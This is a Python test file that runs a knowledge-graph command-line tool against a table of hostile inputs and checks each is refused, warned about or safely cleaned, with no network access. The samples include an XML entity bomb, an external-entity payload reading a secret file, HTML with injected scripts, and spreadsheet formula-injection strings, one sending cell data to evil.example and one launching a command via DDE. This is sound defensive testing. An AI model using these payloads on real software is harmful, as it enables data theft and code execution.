"""The README's table of hostile inputs, row by row, through the real `kg build`.

Each row is built beside one good article: the good one is always in the graph, the hostile one is
built, built with a warning, or refused with one line that names it; the exit status says which;
the graph file is whole or absent; and nothing in the process touched the network.
"""
from __future__ import annotations

import csv
import ctypes
import io
import json
import os
import re
import socket
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest
from conftest import ROOT
from rdflib import RDF, Dataset, Literal
from typer.testing import CliRunner

from kg.cli import app
from kg.ontology import KG

pytestmark = pytest.mark.model
GOOD = "Acme Foods bought Globex in Oslo on Monday, the company said.\n"
BUILT, WARNED, REFUSED = "built", "built with a warning", "refused"


def write(path: Path, data: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def one(name: str, data: str | bytes) -> Callable[[Path], list[Path]]:
    return lambda tmp: [write(tmp / name, data)]


def jsonl(*records) -> bytes:
    return b"\n".join(r if isinstance(r, bytes) else json.dumps(r).encode() for r in records) + b"\n"


def labels(graph: Dataset) -> set[str]:
    from rdflib.namespace import RDFS

    return {str(o) for o in graph.objects(None, RDFS.label)}


def literals(graph: Dataset) -> list[str]:
    return [str(o) for o in graph.objects() if isinstance(o, Literal)]


# --- makers of the inputs that need more than one file --------------------------------------------
def fifo(tmp: Path) -> list[Path]:
    os.mkfifo(tmp / "pipe.txt")
    return [tmp / "pipe.txt"]


def file_link_loop(tmp: Path) -> list[Path]:
    (tmp / "a.txt").symlink_to(tmp / "b.txt")
    (tmp / "b.txt").symlink_to(tmp / "a.txt")
    return [tmp / "a.txt"]


def directory_link_loop(tmp: Path) -> list[Path]:
    corpus = tmp / "corpus"
    write(corpus / "inner" / "story.txt", "Maria Lopez joined Initech in Lima last year.\n")
    (corpus / "inner" / "back").symlink_to(corpus)  # corpus/inner/back/inner/back/... for ever
    return [corpus]


def link_out_of_the_directory(tmp: Path) -> list[Path]:
    """corpus/ holds a story, a file link and a directory link that both lead to private/."""
    corpus, private = tmp / "corpus", tmp / "private"
    write(corpus / "story.txt", "Maria Lopez sued Initech in Lima.\n")
    write(private / "notes.txt", "Anna Berg opened a bakery in Turku.\n")
    (corpus / "notes.txt").symlink_to(private / "notes.txt")
    (corpus / "elsewhere").symlink_to(private)
    return [corpus]


def tiny_files(tmp: Path) -> list[Path]:
    corpus = tmp / "tiny"
    corpus.mkdir()
    for i in range(10_000):
        (corpus / f"{i:05d}.txt").write_text(f"Item {i} was filed.\n", encoding="utf-8")
    return [corpus]


def nested_html(tmp: Path) -> list[Path]:
    depth = 100_000
    return [write(tmp / "deep.html", "<html><body>" + "<div>" * depth + "<p>Deep text here.</p>" + "</div>" * depth)]


ENTITY_BOMB = """<?xml version="1.0"?>
<!DOCTYPE html [<!ENTITY a "lollollollollollollollollollol">""" + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
) + """]>
<html><head><title>Bomb</title></head><body><article><p>Anna Berg opened a bakery in Turku. &j;</p>
<p>She said the bakery employs nine people from the town of Turku.</p></article></body></html>"""

ATTACK_HTML = """<html><head><title>Port news</title><script>alert('head')</script></head><body>
<iframe src="https://tracker.example/frame"></iframe><article>
<h1>Port reopens</h1>
<p onclick="alert('click')">The port of Genoa reopened on Friday after a strike, the harbour master said.</p>
<script>document.write('<p>Injected sentence that is not the article.</p>')</script>
<p>Dock workers returned to work in Genoa on Saturday morning, according to the union.</p>
<object data="x.swf"></object><img src=x onerror="alert('img')">
</article></body></html>"""


@dataclass(frozen=True)
class Case:
    input: str  # the README row
    make: Callable[[Path], list[Path]]
    outcome: str
    says: str = ""  # in the message about it
    check: Callable[[Dataset], bool] | None = None  # something true of the graph afterwards
    documents: int = -1  # documents this input adds to the graph: by default 1 if built, 0 if refused

    @property
    def expected_documents(self) -> int:
        return self.documents if self.documents >= 0 else int(self.outcome != REFUSED)


CASES = [
    Case("empty file", one("empty.txt", b""), REFUSED, "is empty"),
    Case("whitespace-only file", one("blank.txt", b"  \n\t\n \r\n"), REFUSED, "is empty"),
    Case("binary file", one("data.txt", bytes(range(256)) * 40), REFUSED, "binary"),
    Case("PDF named .txt", one("paper.txt", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"), REFUSED, "is a PDF"),
    Case("gzip archive named .jsonl", one("feed.jsonl", b"\x1f\x8b\x08\x00" + bytes(200)), REFUSED, "gzip archive"),
    Case("invalid UTF-8", one("bad.txt", b"Maria Lopez sued Initech in Lima.\xff\xfe\xfd\n"), WARNED, "cp1252",
         check=lambda g: "Maria Lopez" in labels(g)),
    Case("Latin-1 text", one("latin.txt", "José Martínez sued Initech in Málaga.\n".encode("latin-1")), WARNED,
         "cp1252", check=lambda g: "José Martínez" in labels(g)),
    Case("UTF-16 with BOM", one("wide.txt", "José Martínez sued Initech in Málaga.\n".encode("utf-16")), BUILT,
         check=lambda g: "José Martínez" in labels(g)),
    Case("UTF-16 without BOM", one("le.txt", "Maria Lopez sued Initech in Lima.\n".encode("utf-16-le")), WARNED,
         "UTF-16", check=lambda g: "Maria Lopez" in labels(g)),
    Case("mixed line endings", one("crlf.txt", "Strike ends\r\n\r\nThe port of Genoa reopened on Friday.\r"
                                               "\rDock workers returned in Genoa.\n\nThe union said so.\r\n"),
         BUILT, check=lambda g: not any("\r" in s for s in literals(g))),
    Case("50 MB text file", one("huge.txt", b"All work and no play. " * 2_400_000), REFUSED, "KG_MAX_FILE_MB"),
    Case("5 MB single line", one("line.txt", b"word " * 1_000_000 + b"end."), REFUSED, "KG_MAX_CHARS"),
    Case("5 MB JSONL line among good lines",
         one("big.jsonl", jsonl({"text": "x " * 2_500_000 + "end."}, {"text": "Maria Lopez sued Initech in Lima."})),
         REFUSED, "KG_MAX_CHARS", check=lambda g: "Maria Lopez" in labels(g), documents=1),
    Case("50 MB JSONL line", one("giant.jsonl", jsonl({"text": "Maria Lopez sued Initech in Lima."},
                                                      b'{"text": "' + b"y" * 50_000_000 + b'"}')),
         REFUSED, "line 2", check=lambda g: "Maria Lopez" in labels(g), documents=1),
    Case("HTML with scripts, iframes and handlers", one("attack.html", ATTACK_HTML), BUILT,
         check=lambda g: "Genoa" in labels(g) and not any(re.search(r"alert|Injected|<script", s) for s in literals(g))),
    Case("HTML nested 100,000 deep", nested_html, REFUSED, "no article text"),
    Case("HTML entity bomb", one("bomb.html", ENTITY_BOMB), BUILT,
         check=lambda g: "Anna Berg" in labels(g) and max(map(len, literals(g))) < 10_000),
    Case("HTML page with no article", one("empty.html", "<html><body><nav>Home</nav><script>x()</script></body></html>"),
         REFUSED, "no article text"),
    Case("JSONL with broken lines", one("broken.jsonl", jsonl({"text": "Maria Lopez sued Initech in Lima."},
                                                              b"{not json", b'{"text": "unterminated')),
         REFUSED, "line 2", check=lambda g: "Maria Lopez" in labels(g), documents=1),
    Case("JSONL with wrong types",
         one("types.jsonl", jsonl({"text": 5}, {"text": "Maria Lopez sued Initech in Lima.", "title": ["x"],
                                                "author": {"name": "<b>x</b>"}, "date": 7, "url": None})),
         REFUSED, "line 1", check=lambda g: "Maria Lopez" in labels(g) and not any("<b>" in s for s in literals(g)),
         documents=1),
    Case("JSONL line without text", one("notext.jsonl", jsonl({"title": "Only a title"}, [1, 2])), REFUSED,
         "non-empty \"text\""),
    Case("JSONL nested 100,000 deep", one("deep.jsonl", b"[" * 100_000 + b"\n"), REFUSED, "nested too deeply",
         documents=0),
    Case("JSONL with U+2028 inside a string",
         one("sep.jsonl", '{"text": "Maria Lopez sued Initech.\u2028She won in Lima."}\n'.encode()), BUILT,
         check=lambda g: "Maria Lopez" in labels(g)),
    Case("JSONL with lone surrogates and NULs",
         one("surrogate.jsonl", b'{"text": "Maria Lopez sued Initech in Lima.\\ud800\\u0000", "author": "\\udfff"}\n'),
         BUILT, check=lambda g: "Maria Lopez" in labels(g)),
    Case("zero-width and bidi control characters",
         one("bidi.txt", "Ma\u200bria Lo\u202epez sued Ini\u200ftech in Li\u2066ma.\u202c\n"), BUILT,
         check=lambda g: "Maria Lopez" in labels(g) and not any(re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069]", s)
                                                                for s in literals(g))),
    Case("emoji and combining marks", one("emoji.txt", "Jose\u0301 Marti\u0301nez 🎉 sued Initech 👍🏽 in Málaga.\n"),
         BUILT, check=lambda g: "José Martínez" in labels(g)),
    Case("100,000 short sentences", one("many.txt", " ".join(
        "Maria Lopez sued Initech in Lima." if i == 99_999 else ("Go.", "Stop.", "Wait.")[i % 3] for i in range(100_000)
    )), BUILT, check=lambda g: {"Maria Lopez", "Lima"} <= labels(g)),
    Case("directory of 10,000 tiny files", tiny_files, BUILT, documents=10_000),
    Case("symbolic link loop", file_link_loop, REFUSED, "link loop"),
    Case("directory link loop", directory_link_loop, WARNED, "link loop",
         check=lambda g: "Maria Lopez" in labels(g)),
    Case("symbolic link out of the input directory", link_out_of_the_directory, WARNED, "outside",
         check=lambda g: "Maria Lopez" in labels(g) and "Anna Berg" not in labels(g)),
    Case("named pipe", fifo, REFUSED, "not a regular file"),
    Case("device file", lambda tmp: [Path("/dev/zero")], REFUSED, "not a regular file"),
    Case("unsupported suffix", one("report.docx", b"PK\x03\x04"), REFUSED, "is none of these"),
    Case("missing path", lambda tmp: [tmp / "nope.txt"], REFUSED, "no such file"),
    Case("file name with markup and brackets", one("[/b] <i>&amp; x.txt", "Maria Lopez sued Initech in Lima.\n"),
         BUILT, check=lambda g: any(s.endswith("[/b] <i>&amp; x.txt") for s in literals(g))),
]
# Rows of the README table with a test of their own below.
OWN_TESTS = {
    "unreadable file": "test_an_unreadable_file",
    "stdin over the size limit": "test_stdin_over_the_size_limit",
    "JSON-LD with a remote @context": "test_a_remote_jsonld_context_is_never_fetched",
    "RDF/XML with an external entity": "test_an_xml_external_entity_is_never_read",
    "JSON-LD with a file @context": "test_a_jsonld_context_from_a_file_is_never_read",
    "symbolic link given, or --follow-links": "test_links_the_user_chose_are_followed",
    "directory nested 1,100 deep": "test_a_directory_nested_1100_deep",
    "knowledge-base CSV row with an invalid IRI": "test_a_knowledge_base_iri_that_is_not_an_iri",
    "text that starts like a spreadsheet formula": "test_csv_cells_that_start_like_a_formula",
    "disk full during a --store build": "test_a_full_disk_is_one_line",
}


@pytest.fixture
def network_watch():
    """Connections and look-ups this process makes to anything but loopback, while the test runs."""
    seen: list[str] = []
    NETWORK_EVENTS.append(seen)
    yield seen
    NETWORK_EVENTS.remove(seen)


NETWORK_EVENTS: list[list[str]] = []


def _audit(event: str, args) -> None:
    if not NETWORK_EVENTS or event not in ("socket.connect", "socket.getaddrinfo", "urllib.Request"):
        return
    target = str(args[1] if event == "socket.connect" else args[0])
    if not re.search(r"127\.0\.0\.1|localhost|::1|^/|^b?'?/", target):
        for seen in NETWORK_EVENTS:
            seen.append(f"{event} {target}")


sys.addaudithook(_audit)


@pytest.mark.parametrize("case", CASES, ids=[c.input for c in CASES])
def test_hostile_input(case: Case, tmp_path, network_watch):
    good = write(tmp_path / "good.txt", GOOD)
    inputs = case.make(tmp_path)
    out = tmp_path / "out" / "graph.trig"
    result = CliRunner().invoke(app, ["build", str(good), *map(str, inputs), "-o", str(out)])

    assert result.exit_code == (1 if case.outcome == REFUSED else 0), result.output
    messages = [line for line in result.stderr.splitlines() if line.strip()]
    if case.outcome == BUILT:
        assert messages == [], messages
    else:
        assert messages, "no message"
        named = [m for m in messages if any(str(i) in m for i in inputs)]
        assert named == messages, f"a message does not name the input: {messages}"
        assert any(case.says in m for m in messages), messages
        kind = "error:" if case.outcome == REFUSED else "warning:"
        assert any(m.startswith(kind) for m in messages), messages
    graph = Dataset(default_union=True)
    graph.parse(out, format="trig")  # whole, or this fails
    assert "Acme Foods" in labels(graph), "the good article was lost"
    assert len(set(graph.subjects(RDF.type, KG.Document))) == 1 + case.expected_documents
    if case.check is not None:
        assert case.check(graph)
    assert [p.name for p in out.parent.iterdir()] == ["graph.trig"], "temporary files were left"
    assert network_watch == []


def test_the_readme_table_lists_every_case_and_only_those():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Hostile inputs", 1)[1].split("\n### ", 1)[0]
    rows = [line.split("|")[1].strip() for line in section.splitlines() if line.startswith("| ") and "---" not in line]
    assert rows[0] == "input"
    assert sorted(rows[1:]) == sorted([c.input for c in CASES] + list(OWN_TESTS))
    assert all(name in globals() for name in OWN_TESTS.values())


def test_an_unreadable_file(tmp_path):
    """As root, the test drops the capability to read past file permissions, so the refusal is real."""
    secret = write(tmp_path / "secret.txt", "Maria Lopez sued Initech in Lima.\n")
    secret.chmod(0)
    good = write(tmp_path / "good.txt", GOOD)
    out = tmp_path / "graph.trig"

    def drop_read_override() -> None:
        if os.geteuid() == 0:  # CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH out of the bounding set
            libc = ctypes.CDLL(None, use_errno=True)
            for capability in (1, 2):
                if libc.prctl(24, capability, 0, 0, 0) != 0:
                    raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")

    proc = subprocess.run([sys.executable, "-m", "kg.cli", "build", str(secret), str(good), "-o", str(out)],
                          capture_output=True, text=True, timeout=300, preexec_fn=drop_read_override)
    assert proc.returncode == 1
    assert proc.stderr.strip() == f"error: {secret}: cannot be read (Permission denied); check its permissions"
    graph = Dataset(default_union=True)
    graph.parse(out, format="trig")
    assert "Acme Foods" in labels(graph) and "Maria Lopez" not in labels(graph)


def test_stdin_over_the_size_limit(tmp_path):
    out = tmp_path / "graph.trig"
    env = {"KG_MAX_FILE_MB": "1"}
    result = CliRunner().invoke(app, ["build", "-", "-o", str(out)], input="Go. " * 300_000, env=env)
    assert result.exit_code == 1 and "<stdin>" in result.stderr and "up to 1 MB" in result.stderr
    assert not out.exists()


def test_a_remote_jsonld_context_is_never_fetched(tmp_path, bait):
    data = {"@context": f"{bait.url}/context.jsonld", "@id": "http://example.org/x", "name": "X"}
    evil = write(tmp_path / "evil.jsonld", json.dumps(data))
    for command in (["query", "SELECT * WHERE { ?s ?p ?o }", "--data", str(evil)], ["stats", str(evil)],
                    ["build", str(write(tmp_path / "good.txt", GOOD)), "--kb", str(evil), "-o", str(tmp_path / "g.trig")]):
        result = CliRunner().invoke(app, command)
        assert result.exit_code in (1, 2), result.output
        assert "kg reads nothing from the network" in result.stderr and str(evil) in result.stderr
    assert bait.hits == []
    assert not (tmp_path / "g.trig").exists()


def test_an_xml_external_entity_is_never_read(tmp_path, bait):
    secret = write(tmp_path / "secret.txt", "TOP-SECRET-VALUE")
    evil = write(tmp_path / "kb.rdf", f"""<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [<!ENTITY file SYSTEM "file://{secret}"> <!ENTITY web SYSTEM "{bait.url}/entity">]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">
  <rdf:Description rdf:about="http://example.org/acme"><rdfs:label>Acme Foods&file;&web;</rdfs:label></rdf:Description>
</rdf:RDF>""")
    out = tmp_path / "g.trig"
    result = CliRunner().invoke(app, ["build", str(write(tmp_path / "good.txt", GOOD)), "--kb", str(evil), "-o", str(out)])
    assert "TOP-SECRET-VALUE" not in result.output
    if out.exists():
        assert "TOP-SECRET-VALUE" not in out.read_text(encoding="utf-8")
    assert bait.hits == []
    assert result.exit_code in (0, 2) and (result.exit_code == 0 or str(evil) in result.stderr)


def test_a_jsonld_context_from_a_file_is_never_read(tmp_path):
    """rdflib reads a context named by file:// IRI or by path from disk: only inline ones are read."""
    secret = write(tmp_path / "secret.jsonld", '{"@context": {"name": "http://www.w3.org/2000/01/rdf-schema#label"}}')
    contexts = [secret.as_uri(), str(secret), "secret.jsonld", [secret.as_uri()], {"@import": secret.as_uri()}]
    good = write(tmp_path / "good.txt", GOOD)
    for number, context in enumerate(contexts):
        evil = write(tmp_path / f"evil{number}.jsonld",
                     json.dumps({"@context": context, "@id": "http://example.org/x", "name": "Acme Foods"}))
        for command in (["query", "SELECT * WHERE { ?s ?p ?o }", "--data", str(evil)],
                        ["build", str(good), "--kb", str(evil), "-o", str(tmp_path / "g.trig")]):
            result = CliRunner().invoke(app, command)
            assert result.exit_code in (1, 2), result.output
            lines = result.stderr.strip().splitlines()
            assert len(lines) == 1 and str(evil) in lines[0] and "an @context outside the file" in lines[0], lines
    assert not (tmp_path / "g.trig").exists()
    inline = write(tmp_path / "inline.jsonld", json.dumps(
        {"@context": {"name": "http://www.w3.org/2000/01/rdf-schema#label"}, "@id": "http://example.org/x",
         "name": "X"}))
    query = "SELECT ?o WHERE { <http://example.org/x> rdfs:label ?o }"
    result = CliRunner().invoke(app, ["query", query, "--data", str(inline), "-f", "csv"])
    assert result.exit_code == 0 and result.stdout.split() == ["o", "X"]


def test_links_the_user_chose_are_followed(tmp_path):
    """A link named on the command line is followed; so are links out of a directory with --follow-links."""
    corpus = link_out_of_the_directory(tmp_path)[0]
    good = write(tmp_path / "good.txt", GOOD)

    def build(*args: str) -> tuple[str, set[str]]:
        out = tmp_path / "out.trig"
        result = CliRunner().invoke(app, ["build", str(good), *args, "-o", str(out)])
        assert result.exit_code == 0, result.output
        graph = Dataset(default_union=True)
        graph.parse(out, format="trig")
        return result.stderr.strip(), labels(graph)

    said, found = build(str(corpus), "--follow-links")
    assert said == "" and {"Maria Lopez", "Anna Berg"} <= found
    said, found = build(str(corpus), str(corpus / "notes.txt"))  # given: read; met in the walk: still skipped
    assert "Anna Berg" in found and said and all("outside" in line for line in said.splitlines())


def test_a_directory_nested_1100_deep(tmp_path):
    """Deeper than Python's recursion limit: the walk must not recurse. Built into a store, beside a
    good file, as the report had it (0 documents then)."""
    good = write(tmp_path / "good.txt", GOOD)
    deep = tmp_path / "deep"
    deep.mkdir()
    bottom = deep
    for _ in range(1_100):  # one level at a time: Path.mkdir(parents=True) itself recurses
        bottom = bottom / "d"
        bottom.mkdir()
    write(bottom / "story.txt", "Maria Lopez sued Initech in Lima.\n")
    store = tmp_path / "store"
    try:
        result = CliRunner().invoke(app, ["build", str(good), str(deep), "--store", str(store)])
        assert result.exit_code == 0, result.output
        assert result.stderr.strip() == "" and result.stdout.startswith("2 document(s) built"), result.output
        names = "SELECT ?n WHERE { ?e rdfs:label ?n }"
        query = CliRunner().invoke(app, ["query", names, "--store", str(store), "-f", "csv"])
        assert {"Acme Foods", "Maria Lopez"} <= set(query.stdout.splitlines())
    finally:  # shutil.rmtree recurses too: take the tree down from the bottom
        (bottom / "story.txt").unlink(missing_ok=True)
        while bottom != tmp_path:
            bottom.rmdir()
            bottom = bottom.parent


@pytest.mark.parametrize("iri", ["http://example.org/acme foods", "http://example.org/<acme>", 'http://example.org/"a"',
                                 "http://example.org/{a}", "http://example.org/a|b", "http://example.org/a\\b",
                                 "http://example.org/a^b", "http://example.org/a`b", "http://example.org/a\x01b",
                                 "example.org/acme", "http://example.org/a%zz"])
def test_a_knowledge_base_iri_that_is_not_an_iri(tmp_path, iri):
    """Refused when the file is read, before any article: one line with the file, the line and what to do."""
    kb = tmp_path / "kb.csv"
    with kb.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerows([["name", "iri"], ["Globex", "http://example.org/globex"], ["Acme Foods", iri]])
    out, good = tmp_path / "g.trig", write(tmp_path / "good.txt", GOOD)
    result = CliRunner().invoke(app, ["build", str(good), "--kb", str(kb), "-o", str(out)])
    assert result.exit_code == 2, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {kb} line 3: "), lines
    assert "IRI" in lines[0] and ("percent-encode" in lines[0] or "absolute IRI" in lines[0]), lines
    assert not out.exists()


def test_csv_cells_that_start_like_a_formula(tmp_path):
    """An article's text that starts like a formula reaches `kg query -f csv` with a leading ' (a
    spreadsheet shows it as text); plain numbers stay numbers; `-f csv-raw` and `-f json` are exact."""
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\tx", "\rx"]
    graph = tmp_path / "g.ttl"
    labels_ttl = ", ".join(json.dumps(a) for a in [*attacks, "-5", "+1.5e3", "plain"])
    write(graph, f"<http://example.org/a> <http://www.w3.org/2000/01/rdf-schema#label> {labels_ttl} ;"
                 " <http://www.w3.org/2000/01/rdf-schema#comment> -7 .\n")
    query = "SELECT ?o WHERE { <http://example.org/a> ?p ?o }"

    def cells(fmt: str) -> set[str]:
        result = CliRunner().invoke(app, ["query", query, "--data", str(graph), "-f", fmt])
        assert result.exit_code == 0, result.output
        return {row[0] for row in list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]}

    assert cells("csv") == {"'" + a for a in attacks} | {"-5", "+1.5e3", "plain", "-7"}
    assert cells("csv-raw") == set(attacks) | {"-5", "+1.5e3", "plain", "-7"}
    answer = CliRunner().invoke(app, ["query", query, "--data", str(graph), "-f", "json"])
    values = {b["o"]["value"] for b in json.loads(answer.stdout)["results"]["bindings"]}
    assert set(attacks) <= values


def limit_file_size() -> None:
    """In the child: no file may grow past 2 MB, and a write past it fails (EFBIG) instead of killing
    the process: a full disk, as the real store's writes meet it."""
    import resource
    import signal

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (2 * 1024 * 1024, 2 * 1024 * 1024))


def test_a_full_disk_is_one_line(tmp_path):
    """The write fails, then close() flushes again: one line, no traceback; the store still opens."""
    articles = write(tmp_path / "many.jsonl", jsonl(*(
        {"text": f"Maria Lopez{i} sued Initech{i} in Lima, the company said. " + "Anna Berg opened a bakery. " * 400}
        for i in range(60))))
    store = tmp_path / "store"
    proc = subprocess.run([sys.executable, "-m", "kg.cli", "build", str(articles), "--store", str(store)],
                          capture_output=True, text=True, timeout=600, preexec_fn=limit_file_size)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {store}: cannot be written ("), proc.stderr
    stats = subprocess.run([sys.executable, "-m", "kg.cli", "stats", "--store", str(store), "--json"],
                           capture_output=True, text=True, timeout=300)
    assert stats.returncode == 0, stats.stderr
    assert 0 <= json.loads(stats.stdout)["documents"] < 60
